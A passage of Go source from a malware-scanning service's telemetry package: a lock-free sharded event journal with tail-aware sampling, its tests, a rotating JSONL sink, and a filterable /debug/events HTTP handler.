type Config struct {
	// Capacity is the total retained event count (rounded up so each
	// shard holds a power of two).
	Capacity int
	// Shards overrides the shard count (default GOMAXPROCS, rounded up
	// to a power of two).
	Shards int
	// SampleEvery keeps one in N benign fast-path events; 1 keeps
	// everything, 0 selects DefaultSampleEvery.
	SampleEvery int
	// SlowThreshold is the always-keep latency floor; 0 selects
	// DefaultSlowThreshold, negative treats nothing as slow.
	SlowThreshold time.Duration
	// Registry receives the journal's counters; nil creates a private
	// registry.
	Registry *telemetry.Registry
	// Sink, when set, additionally receives every journaled event for
	// JSONL spooling. The journal does not own the sink's lifecycle.
	Sink *Sink
}

// slot is one seqlock-guarded event image. seq is even when the slot
// is stable and odd while a writer owns it; readers that observe a
// seq change mid-copy discard the image. Every access is atomic, so
// the journal is race-detector clean without locks.
type slot struct {
	seq atomic.Uint64
	w   [slotWords]atomic.Uint64
}

// shard is one claim counter plus its slot ring.
type shard struct {
	head  atomic.Uint64
	slots []slot
	mask  uint64
}

// Journal is the lock-free sharded wide-event journal. Writers claim
// a slot with one atomic add and publish the encoded event under the
// slot's sequence counter; Record never blocks and never allocates.
type Journal struct {
	shards    []shard
	shardMask uint64
	slow      time.Duration
	every     uint64
	sink      *Sink

	sampleCtr atomic.Uint64
	fallback  atomic.Uint64

	recorded   *telemetry.Counter
	sampledOut *telemetry.Counter
	collisions *telemetry.Counter
}

// New builds a journal.
func New(cfg Config) *Journal {
	if cfg.Capacity <= 0 {
		cfg.Capacity = DefaultCapacity
	}
	if cfg.Shards <= 0 {
		cfg.Shards = runtime.GOMAXPROCS(0)
	}
	if cfg.SampleEvery <= 0 {
		cfg.SampleEvery = DefaultSampleEvery
	}
	switch {
	case cfg.SlowThreshold == 0:
		cfg.SlowThreshold = DefaultSlowThreshold
	case cfg.SlowThreshold < 0:
		cfg.SlowThreshold = 1<<63 - 1
	}
	reg := cfg.Registry
	if reg == nil {
		reg = telemetry.NewRegistry()
	}
	nShards := nextPow2(cfg.Shards)
	perShard := nextPow2(max(cfg.Capacity/nShards, 1))
	j := &Journal{
		shards:     make([]shard, nShards),
		shardMask:  uint64(nShards - 1),
		slow:       cfg.SlowThreshold,
		every:      uint64(cfg.SampleEvery),
		sink:       cfg.Sink,
		recorded:   reg.Counter("events_recorded_total", "wide events journaled (sampling survivors)"),
		sampledOut: reg.Counter("events_sampled_out_total", "benign fast-path events dropped by the sampler"),
		collisions: reg.Counter("events_write_collisions_total", "events dropped because the claimed slot was mid-write (ring lapped within one record)"),
	}
	for i := range j.shards {
		j.shards[i].slots = make([]slot, perShard)
		j.shards[i].mask = uint64(perShard - 1)
	}
	return j
}

// nextPow2 rounds n up to a power of two (minimum 1).
func nextPow2(n int) int {
	p := 1
	for p < n {
		p <<= 1
	}
	return p
}

// SlowThreshold returns the always-keep latency floor.
func (j *Journal) SlowThreshold() time.Duration { return j.slow }

// Recorded returns the number of events journaled since start.
func (j *Journal) Recorded() uint64 { return j.recorded.Value() }

// SampledOut returns the number of benign events the sampler dropped.
func (j *Journal) SampledOut() uint64 { return j.sampledOut.Value() }

// Record journals one event, applying the tail-aware sampling policy:
// slow, error, shed, and malicious events always land; the benign
// fast path keeps one event in SampleEvery. A nil journal no-ops, so
// the instrumented code path is shared with journal-less deployments
// at the cost of one branch.
//
// The event is copied into a pre-claimed slot through atomic word
// stores — Record never blocks, never allocates, and must not retain
// ev.
//
//mel:hotpath
func (j *Journal) Record(ev *Event) {
	if j == nil {
		return
	}
	if !ev.interesting(j.slow) && j.every > 1 {
		if j.sampleCtr.Add(1)%j.every != 0 {
			j.sampledOut.Inc()
			return
		}
	}
	// Shard by the id's counter half so concurrent traced writers
	// stripe; untraced events (zero id) stripe by a fallback counter.
	h := uint64(ev.TraceID[15]) | uint64(ev.TraceID[14])<<8
	if h == 0 {
		h = j.fallback.Add(1)
	}
	idx := h & j.shardMask
	if idx >= uint64(len(j.shards)) {
		// Unreachable (the mask bounds idx); the explicit guard keeps
		// the wire-derived id out of the index unchecked.
		idx = 0
	}
	sh := &j.shards[idx]
	s := &sh.slots[(sh.head.Add(1)-1)&sh.mask]
	seq := s.seq.Load()
	if seq&1 != 0 || !s.seq.CompareAndSwap(seq, seq+1) {
		// Another writer owns the slot: the ring lapped within one
		// in-flight record. Dropping the oldest-by-position event is the
		// overwrite the ring would have done anyway.
		j.collisions.Inc()
		return
	}
	var w [slotWords]uint64
	ev.encode(&w)
	for i := range w {
		s.w[i].Store(w[i])
	}
	s.seq.Store(seq + 2)
	j.recorded.Inc()
	if j.sink != nil {
		j.sink.offer(ev)
	}
}

// Snapshot returns up to max resident events, newest first (by start
// time, then trace id). max <= 0 returns everything resident. Slots
// mid-write or overwritten during the copy are skipped.
func (j *Journal) Snapshot(max int) []Event {
	var out []Event
	var w [slotWords]uint64
	for si := range j.shards {
		sh := &j.shards[si]
		for i := range sh.slots {
			s := &sh.slots[i]
			seq := s.seq.Load()
			if seq == 0 || seq&1 != 0 {
				continue
			}
			for k := range w {
				w[k] = s.w[k].Load()
			}
			if s.seq.Load() != seq {
				continue // torn: a writer got in mid-copy
			}
			out = append(out, decode(&w))
		}
	}
	sort.Slice(out, func(a, b int) bool {
		if out[a].StartUnixNs != out[b].StartUnixNs {
			return out[a].StartUnixNs > out[b].StartUnixNs
		}
		return out[a].TraceID.String() > out[b].TraceID.String()
	})
	if max > 0 && len(out) > max {
		out = out[:max]
	}
	return out
}

package events

import (
	"encoding/json"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"repro/internal/telemetry"
	"repro/internal/telemetry/tracing"
)

func testEvent(i int) Event {
	var id tracing.TraceID
	id[0] = 0xab
	id[15] = byte(i)
	id[14] = byte(i >> 8)
	e := Event{
		TraceID:     id,
		StartUnixNs: int64(1_700_000_000_000_000_000 + i),
		Total:       time.Duration(i) * time.Microsecond,
		Bytes:       4096,
		MEL:         17,
		Threshold:   22.5,
		ViewIndex:   -1,
	}
	for s := range e.Stages {
		e.Stages[s] = -1
	}
	e.Stages[tracing.StageDP] = 123 * time.Microsecond
	return e
}

func TestEncodeDecodeRoundTrip(t *testing.T) {
	e := testEvent(7)
	e.Malicious = true
	e.Cached = true
	e.Content = true
	e.ViewIndex = 2
	e.DecodeChain = "base64>gzip"
	e.TriageScore = 0.75
	e.TriageCleared = true
	e.Cause = CauseScanError
	var w [slotWords]uint64
	e.encode(&w)
	got := decode(&w)
	if got != e {
		t.Fatalf("round trip mismatch:\n got %+v\nwant %+v", got, e)
	}
}

func TestEncodeTruncatesLongChain(t *testing.T) {
	e := testEvent(1)
	e.DecodeChain = strings.Repeat("x", ChainBytes+20)
	var w [slotWords]uint64
	e.encode(&w)
	got := decode(&w)
	if len(got.DecodeChain) != ChainBytes || got.DecodeChain != e.DecodeChain[:ChainBytes] {
		t.Fatalf("chain not truncated to %d bytes: got %d", ChainBytes, len(got.DecodeChain))
	}
}

func TestCauseNamesRoundTrip(t *testing.T) {
	for c := CauseOK; c < numCauses; c++ {
		got, ok := ParseCause(c.String())
		if !ok || got != c {
			t.Fatalf("cause %d name %q did not round trip", c, c.String())
		}
	}
	if _, ok := ParseCause("nope"); ok {
		t.Fatal("ParseCause accepted an unknown name")
	}
	if Cause(200).String() != "unknown" {
		t.Fatal("out-of-range cause should stringify as unknown")
	}
}

func TestSamplingPolicy(t *testing.T) {
	j := New(Config{Capacity: 256, Shards: 1, SampleEvery: 4, SlowThreshold: time.Second})
	// 40 benign fast-path events: 1 in 4 kept.
	for i := 0; i < 40; i++ {
		e := testEvent(i)
		j.Record(&e)
	}
	if got := j.Recorded(); got != 10 {
		t.Fatalf("benign sampling kept %d of 40, want 10", got)
	}
	if got := j.SampledOut(); got != 30 {
		t.Fatalf("sampled out %d, want 30", got)
	}
	// Interesting events always land: slow, malicious, every failure cause.
	interesting := []func(*Event){
		func(e *Event) { e.Total = 2 * time.Second },
		func(e *Event) { e.Malicious = true },
		func(e *Event) { e.Cause = CauseShed },
		func(e *Event) { e.Cause = CauseDeadline },
		func(e *Event) { e.Cause = CauseScanError },
	}
	before := j.Recorded()
	for i, mut := range interesting {
		for k := 0; k < 8; k++ {
			e := testEvent(100 + i*8 + k)
			mut(&e)
			j.Record(&e)
		}
	}
	if got := j.Recorded() - before; got != uint64(8*len(interesting)) {
		t.Fatalf("interesting events journaled %d of %d", got, 8*len(interesting))
	}
}

func TestSnapshotNewestFirstAndBounded(t *testing.T) {
	j := New(Config{Capacity: 64, Shards: 1, SampleEvery: 1})
	for i := 0; i < 50; i++ {
		e := testEvent(i)
		j.Record(&e)
	}
	got := j.Snapshot(10)
	if len(got) != 10 {
		t.Fatalf("snapshot returned %d events, want 10", len(got))
	}
	for i := 1; i < len(got); i++ {
		if got[i].StartUnixNs > got[i-1].StartUnixNs {
			t.Fatalf("snapshot not newest-first at %d", i)
		}
	}
	if got[0].StartUnixNs != testEvent(49).StartUnixNs {
		t.Fatalf("newest event missing: got start %d", got[0].StartUnixNs)
	}
}

func TestRingOverwritesOldest(t *testing.T) {
	j := New(Config{Capacity: 8, Shards: 1, SampleEvery: 1})
	for i := 0; i < 100; i++ {
		e := testEvent(i)
		j.Record(&e)
	}
	got := j.Snapshot(0)
	if len(got) != 8 {
		t.Fatalf("ring holds %d events, want 8", len(got))
	}
	for _, e := range got {
		if e.StartUnixNs < testEvent(92).StartUnixNs {
			t.Fatalf("ring retained stale event start=%d", e.StartUnixNs)
		}
	}
}

// TestJournalHammer drives concurrent writers against concurrent
// snapshotters; under -race this is the journal's lock-freedom proof,
// and decoded events must always be internally consistent.
func TestJournalHammer(t *testing.T) {
	j := New(Config{Capacity: 128, Shards: 4, SampleEvery: 1})
	const writers = 8
	const perWriter = 2000
	var wg, readers sync.WaitGroup
	stop := make(chan struct{})
	for w := 0; w < writers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perWriter; i++ {
				e := testEvent(w*perWriter + i)
				e.DecodeChain = "b64>gz"
				e.Content = true
				e.ViewIndex = w
				j.Record(&e)
			}
		}(w)
	}
	readers.Add(1)
	go func() {
		defer readers.Done()
		for {
			select {
			case <-stop:
				return
			default:
			}
			for _, e := range j.Snapshot(0) {
				if e.Bytes != 4096 || e.MEL != 17 {
					t.Errorf("torn event escaped seqlock: %+v", e)
					return
				}
			}
		}
	}()
	wg.Wait()
	close(stop)
	readers.Wait()
	total := j.Recorded() + j.collisions.Value()
	if total != writers*perWriter {
		t.Fatalf("accounting leak: recorded+collisions=%d, want %d", total, writers*perWriter)
	}
}

func TestNilJournalAndNilTraceID(t *testing.T) {
	var j *Journal
	e := testEvent(0)
	j.Record(&e) // must not panic
	j2 := New(Config{Capacity: 16, Shards: 2, SampleEvery: 1})
	for i := 0; i < 10; i++ {
		ev := Event{StartUnixNs: int64(i), ViewIndex: -1} // zero trace id
		j2.Record(&ev)
	}
	if got := j2.Recorded(); got != 10 {
		t.Fatalf("zero-id events recorded %d of 10", got)
	}
}

func TestSinkWritesAndRotates(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "events.jsonl")
	sink, err := NewSink(SinkConfig{Path: path, MaxBytes: 2048, Buffer: 64})
	if err != nil {
		t.Fatal(err)
	}
	j := New(Config{Capacity: 64, Shards: 1, SampleEvery: 1, Sink: sink})
	for i := 0; i < 200; i++ {
		e := testEvent(i)
		e.Cause = CauseShed
		j.Record(&e)
		if i%16 == 0 {
			time.Sleep(time.Millisecond) // let the writer drain
		}
	}
	sink.Close()
	sink.Close() // idempotent
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	rotated, err := os.ReadFile(path + ".1")
	if err != nil {
		t.Fatalf("no rotated spool: %v", err)
	}
	lines := 0
	for _, chunk := range [][]byte{rotated, data} {
		for _, ln := range strings.Split(strings.TrimSpace(string(chunk)), "\n") {
			if ln == "" {
				continue
			}
			var ej EventJSON
			if err := json.Unmarshal([]byte(ln), &ej); err != nil {
				t.Fatalf("bad JSONL line %q: %v", ln, err)
			}
			if ej.Cause != "shed" {
				t.Fatalf("cause %q, want shed", ej.Cause)
			}
			lines++
		}
	}
	if lines == 0 {
		t.Fatal("sink wrote nothing")
	}
	if len(rotated) < 1024 {
		t.Fatalf("rotated file suspiciously small: %d bytes", len(rotated))
	}
}

func TestHandlerFilters(t *testing.T) {
	reg := telemetry.NewRegistry()
	j := New(Config{Capacity: 256, Shards: 1, SampleEvery: 1, Registry: reg})
	mal := testEvent(1)
	mal.Malicious = true
	j.Record(&mal)
	shed := testEvent(2)
	shed.Cause = CauseShed
	j.Record(&shed)
	slow := testEvent(3)
	slow.Total = 40 * time.Millisecond
	j.Record(&slow)
	fast := testEvent(4)
	j.Record(&fast)

	get := func(query string) Page {
		t.Helper()
		req := httptest.NewRequest("GET", "/debug/events"+query, nil)
		rr := httptest.NewRecorder()
		Handler(j).ServeHTTP(rr, req)
		var p Page
		if err := json.Unmarshal(rr.Body.Bytes(), &p); err != nil {
			t.Fatalf("bad page JSON: %v", err)
		}
		return p
	}

	if p := get(""); p.Count != 4 || p.Recorded != 4 {
		t.Fatalf("unfiltered page count=%d recorded=%d, want 4/4", p.Count, p.Recorded)
	}
	if p := get("?verdict=malicious"); p.Count != 1 || !p.Events[0].Malicious {
		t.Fatalf("verdict=malicious returned %d events", p.Count)
	}
	if p := get("?verdict=shed"); p.Count != 1 || p.Events[0].Cause != "shed" {
		t.Fatalf("verdict=shed returned %d events", p.Count)
	}
	if p := get("?verdict=error"); p.Count != 1 {
		t.Fatalf("verdict=error returned %d events", p.Count)
	}
	if p := get("?verdict=benign"); p.Count != 2 {
		t.Fatalf("verdict=benign returned %d events, want 2", p.Count)
	}
	if p := get("?min_ms=10"); p.Count != 1 || p.Events[0].TotalNs != int64(40*time.Millisecond) {
		t.Fatalf("min_ms=10 returned %d events", p.Count)
	}
	wantPrefix := mal.TraceID.String()
	if p := get("?trace=" + wantPrefix); p.Count != 1 || !strings.HasPrefix(p.Events[0].Trace, wantPrefix) {
		t.Fatalf("trace prefix filter returned %d events", p.Count)
	}
	if p := get("?n=2"); p.Count != 2 {
		t.Fatalf("n=2 returned %d events", p.Count)
	}
	since := testEvent(3).StartUnixNs
	if p := get("?since_ns=" + strconv.FormatInt(since, 10)); p.Count != 2 {
		t.Fatalf("since_ns returned %d events, want 2", p.Count)
	}
	if p := get("?verdict=bogus"); p.Count != 0 {
		t.Fatalf("unknown verdict matched %d events", p.Count)
	}
}

package events

import (
	"encoding/json"
	"net/http"
	"strconv"
	"strings"

	"repro/internal/telemetry/tracing"
)

// EventJSON is the wire shape of one wide event, shared by the JSONL
// sink and /debug/events. Timestamps are unix nanoseconds.
type EventJSON struct {
	Trace       string  `json:"trace,omitempty"`
	StartUnixNs int64   `json:"start_unix_ns"`
	TotalNs     int64   `json:"total_ns"`
	Bytes       int     `json:"bytes"`
	MEL         int     `json:"mel"`
	Threshold   float64 `json:"threshold"`
	Malicious   bool    `json:"malicious"`
	Cached      bool    `json:"cached,omitempty"`
	// Content-pipeline fields mirror the trace JSON: ViewIndex is a
	// pointer so view 0 still renders while non-pipeline scans omit it.
	ViewIndex     *int                `json:"view_index,omitempty"`
	DecodeChain   string              `json:"decode_chain,omitempty"`
	TriageScore   float64             `json:"triage_score,omitempty"`
	TriageCleared bool                `json:"triage_cleared,omitempty"`
	Cause         string              `json:"cause"`
	Stages        []tracing.StageJSON `json:"stages,omitempty"`
}

// JSON converts an event to its wire shape. Stages that never ran
// (negative duration) are omitted.
func JSON(e *Event) EventJSON {
	out := EventJSON{
		StartUnixNs: e.StartUnixNs,
		TotalNs:     int64(e.Total),
		Bytes:       e.Bytes,
		MEL:         e.MEL,
		Threshold:   e.Threshold,
		Malicious:   e.Malicious,
		Cached:      e.Cached,
		Cause:       e.Cause.String(),
	}
	if e.TraceID != (tracing.TraceID{}) {
		out.Trace = e.TraceID.String()
	}
	if e.Content {
		vi := e.ViewIndex
		out.ViewIndex = &vi
		out.DecodeChain = e.DecodeChain
		out.TriageScore = e.TriageScore
		out.TriageCleared = e.TriageCleared
	}
	for s := tracing.Stage(0); int(s) < tracing.NumStages; s++ {
		if e.Stages[s] < 0 {
			continue
		}
		out.Stages = append(out.Stages, tracing.StageJSON{Name: s.String(), DurNs: int64(e.Stages[s])})
	}
	return out
}

// Page is the /debug/events envelope.
type Page struct {
	// Count is the number of events in this response; Recorded,
	// SampledOut, and SlowThresholdNs describe the journal itself.
	Count           int         `json:"count"`
	Recorded        uint64      `json:"recorded"`
	SampledOut      uint64      `json:"sampled_out"`
	SlowThresholdNs int64       `json:"slow_threshold_ns"`
	Events          []EventJSON `json:"events"`
}

// defaultPageMax bounds one debug response unless ?n= overrides it.
const defaultPageMax = 128

// matchVerdict maps the ?verdict= filter values onto an event.
// Recognized values: malicious, benign, cached, cleared, error (any
// non-ok cause), plus every canonical cause name (shed, deadline,
// scan_error, shutdown, other, ok).
func matchVerdict(e *Event, v string) bool {
	switch v {
	case "", "all":
		return true
	case "malicious":
		return e.Malicious
	case "benign":
		return e.Cause == CauseOK && !e.Malicious
	case "cached":
		return e.Cached
	case "cleared":
		return e.TriageCleared
	case "error":
		return e.Cause != CauseOK
	}
	if c, ok := ParseCause(v); ok {
		return e.Cause == c
	}
	return false
}

// Handler serves the journal as filterable JSON — the /debug/events
// endpoint body. Query parameters:
//
//	?n=N          cap the response (default 128)
//	?verdict=V    malicious | benign | cached | cleared | error | <cause>
//	?min_ms=M     only events with total latency >= M milliseconds
//	?trace=HEX    events whose trace id starts with the hex prefix
//	?since_ns=T   only events starting at or after unix-nanosecond T
func Handler(j *Journal) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		q := req.URL.Query()
		max := defaultPageMax
		if s := q.Get("n"); s != "" {
			if v, err := strconv.Atoi(s); err == nil && v > 0 {
				max = v
			}
		}
		verdict := q.Get("verdict")
		var minNs int64
		if s := q.Get("min_ms"); s != "" {
			if v, err := strconv.ParseFloat(s, 64); err == nil && v > 0 {
				minNs = int64(v * 1e6)
			}
		}
		tracePrefix := strings.ToLower(q.Get("trace"))
		var sinceNs int64
		if s := q.Get("since_ns"); s != "" {
			if v, err := strconv.ParseInt(s, 10, 64); err == nil {
				sinceNs = v
			}
		}
		all := j.Snapshot(0)
		page := Page{
			Recorded:        j.Recorded(),
			SampledOut:      j.SampledOut(),
			SlowThresholdNs: int64(j.SlowThreshold()),
		}
		for i := range all {
			e := &all[i]
			if int64(e.Total) < minNs || e.StartUnixNs < sinceNs || !matchVerdict(e, verdict) {
				continue
			}
			if tracePrefix != "" && !strings.HasPrefix(e.TraceID.String(), tracePrefix) {
				continue
			}
			page.Events = append(page.Events, JSON(e))
			if len(page.Events) >= max {
				break
			}
		}
		page.Count = len(page.Events)
		w.Header().Set("Content-Type", "application/json")
		enc := json.NewEncoder(w)
		enc.SetIndent("", "  ")
		_ = enc.Encode(page)
	})
}

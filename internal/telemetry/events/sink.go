package events

import (
	"encoding/json"
	"os"
	"sync"

	"repro/internal/telemetry"
)

// Sink defaults.
const (
	// DefaultSinkMaxBytes rotates the JSONL spool when the active file
	// crosses this size.
	DefaultSinkMaxBytes = 8 << 20
	// DefaultSinkBuffer is the offer-channel depth between the journal
	// and the writer goroutine.
	DefaultSinkBuffer = 256
)

// SinkConfig sizes a Sink. Zero values take the defaults.
type SinkConfig struct {
	// Path is the active JSONL file; rotation renames it to Path+".1"
	// (replacing any previous rotation) and reopens Path fresh, so the
	// spool is bounded at roughly 2*MaxBytes.
	Path string
	// MaxBytes is the rotation threshold.
	MaxBytes int64
	// Buffer is the offer-channel depth; events offered while the
	// writer is behind are dropped and counted, never blocked on.
	Buffer int
	// Registry receives the sink's counters; nil creates a private one.
	Registry *telemetry.Registry
}

// Sink spools journaled events to a bounded JSONL file pair. The
// journal offers events without blocking; a single writer goroutine
// encodes and rotates. Close stops the writer and waits for it.
type Sink struct {
	ch      chan Event
	stop    chan struct{}
	done    chan struct{}
	once    sync.Once
	path    string
	maxB    int64
	written *telemetry.Counter
	dropped *telemetry.Counter
	rotated *telemetry.Counter
	errs    *telemetry.Counter
}

// NewSink opens the spool file (appending) and starts the writer.
func NewSink(cfg SinkConfig) (*Sink, error) {
	if cfg.MaxBytes <= 0 {
		cfg.MaxBytes = DefaultSinkMaxBytes
	}
	if cfg.Buffer <= 0 {
		cfg.Buffer = DefaultSinkBuffer
	}
	reg := cfg.Registry
	if reg == nil {
		reg = telemetry.NewRegistry()
	}
	f, err := os.OpenFile(cfg.Path, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	if err != nil {
		return nil, err
	}
	st, err := f.Stat()
	if err != nil {
		f.Close()
		return nil, err
	}
	s := &Sink{
		ch:      make(chan Event, cfg.Buffer),
		stop:    make(chan struct{}),
		done:    make(chan struct{}),
		path:    cfg.Path,
		maxB:    cfg.MaxBytes,
		written: reg.Counter("events_sink_written_total", "events spooled to the JSONL sink"),
		dropped: reg.Counter("events_sink_dropped_total", "events dropped because the sink writer was behind"),
		rotated: reg.Counter("events_sink_rotations_total", "JSONL spool rotations"),
		errs:    reg.Counter("events_sink_errors_total", "JSONL spool write/rotate errors"),
	}
	go s.run(f, st.Size())
	return s, nil
}

// offer hands one event to the writer without blocking; a full buffer
// drops the event (counted), keeping the record path wait-free.
//
//mel:hotpath
func (s *Sink) offer(ev *Event) {
	select {
	case s.ch <- *ev:
	default:
		s.dropped.Inc()
	}
}

// Close stops the writer, waits for it to drain buffered events, and
// closes the spool file. Safe to call more than once.
func (s *Sink) Close() {
	s.once.Do(func() { close(s.stop) })
	<-s.done
}

// run is the writer loop: encode, append, rotate on size.
func (s *Sink) run(f *os.File, size int64) {
	defer close(s.done)
	enc := json.NewEncoder(countWriter{f, &size})
	write := func(ev Event) {
		if err := enc.Encode(JSON(&ev)); err != nil {
			s.errs.Inc()
			return
		}
		s.written.Inc()
		if size >= s.maxB {
			f.Close()
			if err := os.Rename(s.path, s.path+".1"); err != nil {
				s.errs.Inc()
			}
			nf, err := os.OpenFile(s.path, os.O_CREATE|os.O_WRONLY|os.O_TRUNC, 0o644)
			if err != nil {
				// Keep appending to the old handle's path on next open
				// attempt; without a file there is nothing to spool to.
				s.errs.Inc()
				nf, err = os.OpenFile(s.path, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
				if err != nil {
					return
				}
			}
			f = nf
			size = 0
			enc = json.NewEncoder(countWriter{f, &size})
			s.rotated.Inc()
		}
	}
	for {
		select {
		case ev := <-s.ch:
			write(ev)
		case <-s.stop:
			for {
				select {
				case ev := <-s.ch:
					write(ev)
				default:
					f.Close()
					return
				}
			}
		}
	}
}

// countWriter tracks bytes written through it for rotation decisions.
type countWriter struct {
	f *os.File
	n *int64
}

func (w countWriter) Write(p []byte) (int, error) {
	n, err := w.f.Write(p)
	*w.n += int64(n)
	return n, err
}

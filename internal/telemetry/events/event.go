// Package events is the wide-event journal of the serving layer: one
// canonical record per scan — trace identity, stage timings, verdict,
// content decode chain, triage score, and the shed/error cause —
// retained in lock-free sharded rings, tail-aware sampled (every
// slow, error, shed, or malicious event is kept; the benign fast path
// is down-sampled), optionally spooled to a bounded JSONL sink, and
// served filterable from /debug/events.
//
// The aggregate counters in package telemetry say *that* the fleet is
// slow; a trace says *where* one scan spent its time; a wide event is
// the per-scan row the two are joined on — the record an operator
// greps when a p99 spike, a shed burst, or a model-drift alarm needs
// attribution after the fact.
//
// The record path carries the //mel:hotpath directive: an Event is
// encoded into fixed 64-bit words and published into a pre-allocated
// slot guarded by a per-slot sequence counter, so recording allocates
// nothing and every access is atomic (race-detector clean by
// construction, torn reads detected and discarded by readers).
package events

import (
	"math"
	"time"

	"repro/internal/telemetry/tracing"
)

// Cause classifies why a scan ended the way it did. CauseOK marks a
// served verdict; every other value names the failure, so the journal
// can answer "what did the shed requests look like" without parsing
// error strings.
type Cause uint8

// Event causes.
const (
	// CauseOK is a served verdict (cache hits included).
	CauseOK Cause = iota
	// CauseShed marks a request dropped because the queue was full.
	CauseShed
	// CauseDeadline marks a request that expired before a worker
	// reached it.
	CauseDeadline
	// CauseScanError marks a detector or pipeline failure.
	CauseScanError
	// CauseShutdown marks a request refused during drain.
	CauseShutdown
	// CauseOther marks any failure the caller could not classify.
	CauseOther

	numCauses
)

// causeNames are the JSON/debug names, indexed by Cause.
var causeNames = [numCauses]string{
	"ok", "shed", "deadline", "scan_error", "shutdown", "other",
}

// String returns the canonical cause name.
func (c Cause) String() string {
	if int(c) < len(causeNames) {
		return causeNames[c]
	}
	return "unknown"
}

// ParseCause maps a canonical name back to its Cause; false when the
// name is unknown.
func ParseCause(s string) (Cause, bool) {
	for i, n := range causeNames {
		if n == s {
			return Cause(i), true
		}
	}
	return 0, false
}

// ChainBytes is the number of decode-chain bytes a journal slot
// retains; longer chains are truncated. 64 bytes covers every chain
// the decoder's depth budget can produce.
const ChainBytes = 64

// Event is one scan's canonical wide record. The struct is flat —
// fixed arrays, no slices or maps — so building one on the stack and
// handing it to Journal.Record allocates nothing.
type Event struct {
	// TraceID links the event to its flight-recorder trace; zero for
	// untraced scans.
	TraceID tracing.TraceID
	// StartUnixNs is the wall-clock start in unix nanoseconds.
	StartUnixNs int64
	// Total is the end-to-end latency (queue wait included).
	Total time.Duration
	// Bytes is the submitted payload length.
	Bytes int
	// MEL and Threshold describe the verdict (zero on failures).
	MEL       int
	Threshold float64
	// Malicious marks worm verdicts; Cached marks verdicts served from
	// the content-hash cache.
	Malicious bool
	Cached    bool
	// Content marks scans routed through the content pipeline;
	// ViewIndex is the decoded view the verdict came from (-1 when the
	// pipeline was not involved), DecodeChain the layers peeled to
	// reach it, TriageScore the pipeline's suspicion score, and
	// TriageCleared marks scans the triage gate cleared without a MEL
	// pass.
	Content       bool
	ViewIndex     int
	DecodeChain   string
	TriageScore   float64
	TriageCleared bool
	// Cause classifies the outcome; CauseOK for served verdicts.
	Cause Cause
	// Stages are the per-stage durations, indexed by tracing.Stage;
	// -1 marks stages that never ran (untraced scans carry all -1).
	Stages [tracing.NumStages]time.Duration
}

// Slot word layout: fixed header words, then one word per stage, then
// the packed decode-chain bytes.
const (
	wordIDHi = iota
	wordIDLo
	wordStart
	wordTotal
	wordBytes
	wordMELView // low 32: MEL, high 32: ViewIndex (both int32)
	wordThreshold
	wordTriageScore
	wordFlags // bits 0-7 flags, 8-15 cause, 16-23 chain length
	wordStage0
	chainWord0 = wordStage0 + tracing.NumStages
	slotWords  = chainWord0 + ChainBytes/8
)

// Flag bits in wordFlags.
const (
	flagMalicious = 1 << iota
	flagCached
	flagContent
	flagTriageCleared
)

// encode packs the event into the slot word layout. Everything is
// fixed-width integer stores into a caller-owned array — no
// allocation, no interfaces.
//
//mel:hotpath
func (e *Event) encode(w *[slotWords]uint64) {
	var idHi, idLo uint64
	for i := 0; i < 8; i++ {
		idHi = idHi<<8 | uint64(e.TraceID[i])
		idLo = idLo<<8 | uint64(e.TraceID[8+i])
	}
	w[wordIDHi] = idHi
	w[wordIDLo] = idLo
	w[wordStart] = uint64(e.StartUnixNs)
	w[wordTotal] = uint64(int64(e.Total))
	w[wordBytes] = uint64(int64(e.Bytes))
	w[wordMELView] = uint64(uint32(int32(e.MEL))) | uint64(uint32(int32(e.ViewIndex)))<<32
	w[wordThreshold] = math.Float64bits(e.Threshold)
	w[wordTriageScore] = math.Float64bits(e.TriageScore)
	var flags uint64
	if e.Malicious {
		flags |= flagMalicious
	}
	if e.Cached {
		flags |= flagCached
	}
	if e.Content {
		flags |= flagContent
	}
	if e.TriageCleared {
		flags |= flagTriageCleared
	}
	chain := e.DecodeChain
	if len(chain) > ChainBytes {
		chain = chain[:ChainBytes]
	}
	w[wordFlags] = flags | uint64(e.Cause)<<8 | uint64(len(chain))<<16
	for s := 0; s < tracing.NumStages; s++ {
		w[wordStage0+s] = uint64(int64(e.Stages[s]))
	}
	for i := chainWord0; i < slotWords; i++ {
		w[i] = 0
	}
	for i := 0; i < len(chain); i++ {
		w[chainWord0+i/8] |= uint64(chain[i]) << (uint(i%8) * 8)
	}
}

// decode unpacks a slot image back into an Event. The chain string is
// materialized here — decode runs on the read path only.
func decode(w *[slotWords]uint64) Event {
	var e Event
	for i := 7; i >= 0; i-- {
		e.TraceID[i] = byte(w[wordIDHi] >> (uint(7-i) * 8))
		e.TraceID[8+i] = byte(w[wordIDLo] >> (uint(7-i) * 8))
	}
	e.StartUnixNs = int64(w[wordStart])
	e.Total = time.Duration(int64(w[wordTotal]))
	e.Bytes = int(int64(w[wordBytes]))
	e.MEL = int(int32(uint32(w[wordMELView])))
	e.ViewIndex = int(int32(uint32(w[wordMELView] >> 32)))
	e.Threshold = math.Float64frombits(w[wordThreshold])
	e.TriageScore = math.Float64frombits(w[wordTriageScore])
	flags := w[wordFlags]
	e.Malicious = flags&flagMalicious != 0
	e.Cached = flags&flagCached != 0
	e.Content = flags&flagContent != 0
	e.TriageCleared = flags&flagTriageCleared != 0
	e.Cause = Cause(flags >> 8 & 0xff)
	for s := 0; s < tracing.NumStages; s++ {
		e.Stages[s] = time.Duration(int64(w[wordStage0+s]))
	}
	if n := int(flags >> 16 & 0xff); n > 0 {
		var buf [ChainBytes]byte
		for i := 0; i < n; i++ {
			buf[i] = byte(w[chainWord0+i/8] >> (uint(i%8) * 8))
		}
		e.DecodeChain = string(buf[:n])
	}
	return e
}

// Interesting reports whether the event bypasses the benign fast-path
// sampler: worm verdicts, failures of any cause, and anything at or
// over the slow threshold are always journaled.
//
//mel:hotpath
func (e *Event) interesting(slow time.Duration) bool {
	return e.Malicious || e.Cause != CauseOK || e.Total >= slow
}

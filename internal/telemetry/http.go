package telemetry

import (
	"encoding/json"
	"net/http"
